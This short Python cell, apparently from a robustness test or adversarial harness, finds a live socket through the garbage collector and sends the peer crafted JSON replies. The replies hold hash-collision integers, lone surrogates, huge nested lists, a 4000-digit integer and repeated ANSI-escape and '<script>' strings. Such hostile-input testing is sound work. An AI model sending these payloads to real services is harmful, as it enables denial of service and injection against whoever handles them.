# %% [markdown]
# Replies with values that hurt whoever handles them: numbers with one hash, lone surrogates, deep lists, huge integers.
# %% question="freeze"
import gc
import json
import socket
import struct

VALUES = [
    {"set": [k * (2**61 - 1) for k in range(1, 150_000)]},
    {"dict": [[k * (2**61 - 1), 0] for k in range(1, 100_000)]},
    {"text": "\ud800 \udfff"},
    {"dict": [[{"list": []}, 1]]},
    {"list": [{"list": []}] * 400_000},
    10**4000,
    {"float": "nan"},
    {"set": [{"set": []}]},
    {"ref": True},
    {"ref": 10**30, "module": True},
    {"ref": 1, "module": True, "type": "\x1b[31m<script>" * 1000},
]


def freeze(module):
    sock = next(o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() > 2)
    for value in VALUES:
        text = json.dumps({"ok": value}).encode()
        sock.sendall(struct.pack("!IQ", len(text), 0) + text)
    return module
